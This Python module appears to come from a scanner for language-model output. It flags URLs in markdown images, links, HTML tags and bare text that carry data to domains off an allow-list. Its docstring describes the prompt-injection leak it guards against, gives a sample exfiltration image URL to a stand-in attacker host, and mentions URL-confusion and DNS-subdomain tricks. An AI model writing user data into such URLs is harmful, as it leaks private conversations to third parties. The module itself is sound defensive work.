"""Exfiltration through URLs in model output.

A model steered by an injected instruction can leak conversation data by writing it into a URL the
client then fetches: a markdown image is fetched by the renderer with no click at all (the classic
"![](https://attacker/?q=<secret>)"), an HTML <img>/<iframe> likewise, and a link or bare URL leaks
when clicked. This detector finds URLs in markdown images and links (inline and reference-style),
HTML tags and bare text, and flags those that point outside the allow-list AND carry data: long or
base64/hex-looking query values, many parameters, long or encoded path segments, long subdomain
labels (DNS exfiltration), credentials in the URL.

Types:
- "markdown_image_exfil" (high): a markdown image (auto-loaded by renderers) carrying data;
- "html_image_exfil" (high): an auto-loaded HTML resource (img, iframe, script, video, ...) carrying data;
- "link_exfil" (medium): a markdown/HTML link or bare URL carrying data (leaks on click);
- "url_to_unlisted_domain" (low): any other absolute URL to a domain not on the allow-list.

Spans cover the URL itself, so redaction breaks the fetch and keeps the surrounding text; the three
*_exfil types are redactable. A domain on the allow-list covers its subdomains. The detector reads the
text as the renderer will (the scanner gives it the original, not the normalised text: folding a
look-alike domain onto an allowed one would hide the very trick).
"""

from __future__ import annotations

import math
from urllib.parse import unquote, urlsplit

import regex

from .base import Finding

# Thresholds for "this URL carries data".
LONG_VALUE = 32  # a query value this long (after percent-decoding)
LONG_SEGMENT = 48  # a path segment this long
ENCODED_MIN = 16  # a base64/hex-looking query value at least this long
ENCODED_SEGMENT_MIN = 24  # a base64/hex-looking path segment at least this long
LONG_LABEL = 32  # a DNS label this long
MANY_PARAMS = 5
LONG_QUERY = 100
LONG_FRAGMENT = 64

# The rest of a URL from its start: up to whitespace, a quote or an angle bracket.
_URL_REST = regex.compile(r"[^\s<>\"'`]{1,4096}")
_WWW = regex.compile(r"(?i)(?<![\w./-])www\.")
_TAG_NAME = regex.compile(r"[A-Za-z][A-Za-z0-9-]{0,15}")
# Reference-style images: ![alt][label], ![label][] and ![label].
_REF_IMAGE = regex.compile(r"!\[(?P<alt>[^\]\n]{0,500})\](?:\[(?P<label>[^\]\n]{0,200})\])?")
_ENCODED = regex.compile(r"[A-Za-z0-9+/_\-]+={0,2}")
_HEX = regex.compile(r"[0-9a-fA-F]+")
_TRAILING = ".,;:!?*_~'\")]}"
# HTML tags whose URLs the browser fetches without a click (anything else in a tag counts as a link).
_AUTOLOAD_TAGS = frozenset(
    {"img", "image", "iframe", "frame", "script", "video", "audio", "source", "track", "embed", "object",
     "link", "input", "body", "table", "td", "th", "svg", "use", "picture", "meta", "base", "style"}
)  # fmt: skip
_MD_TEXT_MAX = 500  # how far back to look for the "[" of a markdown link text
_TAG_MAX = 2000  # how far back to look for the "<" of the tag a URL sits in


def _entropy(s: str) -> float:
    counts: dict[str, int] = {}
    for c in s:
        counts[c] = counts.get(c, 0) + 1
    n = len(s)
    return -sum(k / n * math.log2(k / n) for k in counts.values())


def looks_encoded(value: str, min_len: int) -> bool:
    """Does value look like base64/base64url or hex data rather than a word or an id?"""
    if len(value) < min_len or not _ENCODED.fullmatch(value):
        return False
    if _HEX.fullmatch(value):
        return len(value) >= 2 * min_len or (len(value) >= min_len and _entropy(value) >= 3.0)
    classes = (
        any(c.islower() for c in value) + any(c.isupper() for c in value) + any(c.isdigit() for c in value)
    )
    return classes >= 2 and _entropy(value) >= 3.5


def _host_allowed(host: str, allowed: frozenset[str]) -> bool:
    """host is an allowed domain or a subdomain of one (one set lookup per label)."""
    if not allowed:
        return False
    if host in allowed:
        return True
    dot = host.find(".")
    while dot >= 0:
        if host[dot + 1 :] in allowed:
            return True
        dot = host.find(".", dot + 1)
    return False


def _normalise_domain(domain: str) -> str:
    d = domain.strip().lower().rstrip(".")
    if "://" in d:
        d = urlsplit(d).hostname or ""
    for prefix in ("*.", "."):
        if d.startswith(prefix):
            d = d[len(prefix) :]
    return d


def data_signals(url: str) -> tuple[str | None, list[str]]:
    """(host, reasons this URL carries data); host None when url is not an absolute web URL."""
    # Browsers treat "\" as "/" in http(s) URLs: "https://evil\@good" goes to evil.
    url = url.replace("\\", "/")
    low = url[:8].lower()
    if low.startswith("www."):
        url = "http://" + url
    elif not (low.startswith("http://") or low.startswith("https://") or url.startswith("//")):
        return None, []
    try:
        parts = urlsplit(url)
        host = parts.hostname
    except ValueError:
        return None, []
    if not host:
        return None, []
    host = host.rstrip(".")
    reasons: list[str] = []
    if parts.username and len(parts.username) + len(parts.password or "") >= ENCODED_MIN:
        reasons.append("userinfo")
    for label in host.split(".")[:-2]:
        if len(label) >= LONG_LABEL or looks_encoded(label, ENCODED_SEGMENT_MIN):
            reasons.append("subdomain")
            break
    for segment in parts.path.split("/"):
        if not segment:
            continue
        seg = unquote(segment) if "%" in segment else segment
        stem = seg.rsplit(".", 1)[0] if "." in seg[-6:] else seg  # "x.png" -> "x"
        if len(seg) >= LONG_SEGMENT or looks_encoded(stem, ENCODED_SEGMENT_MIN):
            reasons.append("path")
            break
    query = parts.query
    if query:
        if len(query) >= LONG_QUERY:
            reasons.append("long_query")
        params = [p for p in query.replace(";", "&").split("&") if p]
        if len(params) >= MANY_PARAMS:
            reasons.append("many_params")
        for param in params:
            value = param.partition("=")[2] or param
            if "%" in value:
                value = unquote(value)
            if len(value) >= LONG_VALUE:
                reasons.append("long_value")
                break
            if looks_encoded(value, ENCODED_MIN):
                reasons.append("encoded_value")
                break
    if parts.fragment and len(parts.fragment) >= LONG_FRAGMENT:
        reasons.append("fragment")
    return host.lower(), reasons


class ExfilDetector:
    name = "exfil"
    # The scanner passes the original text (see the module docstring), not the normalised one.
    scans_original_text = True

    def __init__(self, allowed_domains: list[str] | None = None) -> None:
        domains = (_normalise_domain(d) for d in (allowed_domains or []))
        self.allowed_domains: frozenset[str] = frozenset(d for d in domains if d)

    def _finding(self, kind: str, url: str, start: int, findings: list[Finding]) -> None:
        host, reasons = data_signals(url)
        if host is None or _host_allowed(host, self.allowed_domains):
            return
        end = start + len(url)
        if not reasons:
            findings.append(Finding(self.name, "url_to_unlisted_domain", "low", 0.5, start, end))
            return
        score = min(1.0, 0.6 + 0.1 * len(reasons))
        if kind == "markdown_image_exfil" or kind == "html_image_exfil":
            severity = "high"
        else:
            severity = "medium"
        findings.append(Finding(self.name, kind, severity, score, start, end, redactable=True))

    def scan(self, text: str, direction: str = "output") -> list[Finding]:
        if not text:
            return []
        has_www = "www." in text or "WWW." in text
        if "//" not in text and not has_www:
            return []
        # URL starts, in order: every "//" (with its "http:"/"https:" if any) and every "www." host.
        starts: list[int] = []
        find = text.find
        i = find("//")
        while i >= 0:
            head = text[max(0, i - 6) : i].lower()
            if head.endswith("https:"):
                starts.append(i - 6)
            elif head.endswith("http:"):
                starts.append(i - 5)
            elif i == 0 or not text[i - 1].isalnum():
                starts.append(i)  # protocol-relative: a URL only in markdown or HTML (checked below)
            i = find("//", i + 2)
        if has_www:
            starts += [m.start() for m in _WWW.finditer(text)]
            starts.sort()
        findings: list[Finding] = []
        refdefs: list[tuple[str, str, int]] = []
        covered = 0
        for start in starts:
            if start < covered:
                continue
            m = _URL_REST.match(text, start)
            if m is None:
                continue
            url = m.group()
            context = self._context(text, start)
            if context is None:  # bare text
                if text.startswith("//", start):
                    continue
                url = url.rstrip(_TRAILING)
                kind = "link_exfil"
            elif context[0] == "md":
                url = url.split(")", 1)[0]
                kind = context[1]
            elif context[0] == "ref":
                refdefs.append((context[1], url, start))
                covered = start + len(url)
                continue
            else:  # html
                kind = context[1]
            if not url:
                continue
            covered = start + len(url)
            self._finding(kind, url, start, findings)
        if refdefs:
            image_labels = {
                " ".join((m.group("label") or m.group("alt")).lower().split())
                for m in _REF_IMAGE.finditer(text)
            }
            for label, url, start in refdefs:
                key = " ".join(label.lower().split())
                kind = "markdown_image_exfil" if key in image_labels else "link_exfil"
                self._finding(kind, url, start, findings)
        return findings

    @staticmethod
    def _context(text: str, start: int) -> tuple[str, str] | None:
        """Where the URL at start sits: ("md", kind) inside a markdown image/link destination,
        ("ref", label) in a reference definition, ("html", kind) inside an HTML tag, None in bare text."""
        j = start
        lo = max(0, start - 10)
        while j > lo and text[j - 1] in " \t<":
            j -= 1
        before = text[j - 2 : j] if j >= 2 else ""
        if before == "](":
            close = j - 2
            opening = text.rfind("[", max(0, close - _MD_TEXT_MAX), close)
            if opening >= 0 and "\n" not in text[opening:close]:
                inner = text[opening + 1 : close]
                if opening > 0 and text[opening - 1] == "!" and "]" not in inner and "[" not in inner:
                    return "md", "markdown_image_exfil"
                return "md", "link_exfil"
        elif before == "]:":
            close = j - 2
            opening = text.rfind("[", max(0, close - 200), close)
            if opening >= 0:
                line_start = text.rfind("\n", 0, opening) + 1
                label = text[opening + 1 : close]
                if (
                    opening - line_start <= 3
                    and not text[line_start:opening].strip()
                    and label
                    and "]" not in label
                ):
                    return "ref", label
        lt = text.rfind("<", max(0, start - _TAG_MAX), start)
        if lt >= 0 and text.find(">", lt, start) < 0:
            m = _TAG_NAME.match(text, lt + 1)
            if m is not None:
                tag = m.group().lower()
                return "html", "html_image_exfil" if tag in _AUTOLOAD_TAGS else "link_exfil"
        return None
